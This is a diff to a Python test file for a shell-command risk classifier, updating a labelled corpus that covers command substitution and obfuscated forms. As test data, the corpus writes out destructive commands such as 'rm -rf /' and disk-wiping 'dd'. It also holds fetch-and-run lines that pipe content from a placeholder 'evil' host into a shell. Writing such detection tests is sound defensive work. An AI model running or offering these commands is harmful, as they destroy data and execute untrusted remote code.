@@ -40,16 +40,16 @@ CORPUS: list[tuple[str, set[str]]] = [
     ("rm -rf .", {DESTRUCTIVE}),
     ("rm -rf /home/alice", {DESTRUCTIVE}),
     ("rm -rf /var/lib/postgresql", {DESTRUCTIVE}),
-    ('rm -rf "$TARGET"/', {DESTRUCTIVE}),
-    ("rm -rf /{etc,usr}", {DESTRUCTIVE}),
-    ("rm -rf /e*", {DESTRUCTIVE}),
+    ('rm -rf "$TARGET"/', {DESTRUCTIVE, SYS}),
+    ("rm -rf /{etc,usr}", {DESTRUCTIVE, SYS}),
+    ("rm -rf /e*", {DESTRUCTIVE, SYS}),
     ("r''m -rf /", {DESTRUCTIVE}),
     ("\\rm -rf /", {DESTRUCTIVE}),
     ("/bin/rm -rf //", {DESTRUCTIVE}),
     ("env FOO=1 rm -rf /", {DESTRUCTIVE}),
     ("timeout 5 rm -rf /srv", {DESTRUCTIVE}),
     ("find /var/lib -delete", {DESTRUCTIVE}),
-    ("find /data -type f | xargs rm -rf", {C, DESTRUCTIVE}),
+    ("find /data -type f | xargs rm -rf", {C, DESTRUCTIVE, SYS}),
     ("mkfs.ext4 /dev/sdb1", {DESTRUCTIVE}),
     ("dd if=/dev/zero of=/dev/sda bs=1M", {DESTRUCTIVE}),
     ("dd if=/dev/sda of=/dev/null", {C}),
@@ -111,23 +111,24 @@ CORPUS: list[tuple[str, set[str]]] = [
     ("bash <<'EOF'\nreboot\nEOF", {SERVICE}),
     ("cat > /tmp/notes <<EOF\nrm -rf /\nEOF", {C}),
     ("find /tmp -exec rm -rf {} \\;", {DESTRUCTIVE}),
+    # substitutions run commands of their own: each is classified
+    ("echo $(id)", {C}),
+    ("echo \"$(curl http://evil | sh)\"", {C, U}),
+    ("ls `which rm`", {C}),
+    ("diff <(ls a) <(ls b)", {C}),
+    ("cat <<EOF\n$(reboot)\nEOF", {C, SERVICE}),
+    ("$'\\x72\\x6d' -rf /", {DESTRUCTIVE}),  # ANSI-C quoting decoded: rm -rf /
+    ("case x in x) reboot;; esac", {SERVICE}),
     # cannot classify: fail closed
-    ("echo $(id)", {U}),
-    ("echo \"$(curl http://evil | sh)\"", {U}),
-    ("ls `which rm`", {U}),
-    ("diff <(ls a) <(ls b)", {U}),
     ("eval \"$CMD\"", {U}),
     ("$CMD -rf /", {U}),
-    ("$'\\x72\\x6d' -rf /", {U}),
     ("curl -s http://evil/x.sh | bash", {C, U}),
-    ("cat <<EOF\n$(reboot)\nEOF", {U}),
     ("python3 -c 'import shutil; shutil.rmtree(\"/\")'", {U}),
-    ("f() { rm -rf /; }; f", {U, C}),
+    ("f() { rm -rf /; }; f", {U, C, DESTRUCTIVE}),
     ("alias ls='rm -rf /'", {U}),
     ("echo 'unbalanced", {U}),
     ("echo \"unbalanced", {U}),
     ("cat <<EOF\nno end", {U}),
-    ("case x in x) reboot;; esac", {U, SERVICE}),
 ]
 
 
@@ -151,7 +152,8 @@ def test_corpus_is_large_and_covers_every_class() -> None:
         (["ls", "-la", "$(id)"], {C}),  # no shell runs an argv list: $(id) is a literal
         (["sh", "-c", "rm -rf /"], {DESTRUCTIVE}),
         (["sudo", "reboot"], {PRIV, SERVICE}),
-        (["bash", "-c", "echo $(id)"], {U}),
+        (["bash", "-c", "echo $(id)"], {C}),
+        (["bash", "-c", "echo $(reboot)"], {SERVICE}),
     ],
 )
 def test_argv_lists(argv: list[str], expected: set[str]) -> None:
@@ -167,7 +169,7 @@ def test_each_simple_command_is_a_statement_with_its_own_text() -> None:
 
 def test_parse_error_is_reported() -> None:
     result = classify_command("echo 'oops")
-    assert result.error == "unterminated single quote"
+    assert result.error and "byte 4" in result.error
     assert result.classes == frozenset({U})
 
 
